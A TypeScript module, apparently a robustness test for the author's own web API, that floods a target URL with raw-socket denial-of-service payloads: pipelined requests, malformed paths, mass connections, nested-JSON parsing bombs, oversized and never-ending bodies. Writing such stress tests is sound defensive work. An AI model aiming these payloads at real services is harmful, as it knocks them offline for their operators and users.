import { connect, type Socket } from 'node:net'

/** Opens connections that send this text and never read what is answered. */
export function inonder(adresse: string, connexions: number, texte: string): Socket[] {
  const { hostname, port } = new URL(adresse)
  return Array.from({ length: connexions }, () => {
    const prise = connect(Number(port), hostname)
    // Cut by the server: what is wanted.
    prise.on('error', () => prise.destroy())
    prise.pause().write(texte)
    return prise
  })
}

const get = (chemin: string) => `GET ${chemin} HTTP/1.1\r\nHost: x\r\n\r\n`
const post = (chemin: string, corps: string, annonce = corps.length) =>
  [
    `POST ${chemin} HTTP/1.1`,
    'Host: x',
    'Content-Type: application/json',
    `Content-Length: ${annonce}`,
    '',
    corps,
  ].join('\r\n')
/** 60 kB that weigh twenty times as much once read. */
const TABLEAUX = `{"identifiant":"x","password":"x","z":[${'[],'.repeat(20_000)}[]]}`
const GRAND = ' '.repeat(900_000)

/** What is sent, on how many connections. */
export const ATTAQUES: [string, number, string][] = [
  ['la description, 1 300 fois à la suite', 7, get('/api/openapi.json').repeat(1300)],
  ['des adresses illisibles à la suite', 7, get('/api/formulaire/lire/%').repeat(1300)],
  ['la description, une fois par connexion', 300, get('/api/openapi.json')],
  ['un corps de tableaux vides', 60, post('/api/contact', TABLEAUX)],
  ['un corps trop grand', 30, post('/api/utilisateur/connexion', ' '.repeat(999_999))],
  ['un grand corps sans jeton', 30, post('/api/formulaire/enregistrer/3/2025', GRAND, 1_000_000)],
  ['un corps qui ne finit pas', 300, post('/api/contact', ' '.repeat(60_000), 64_000)],
]
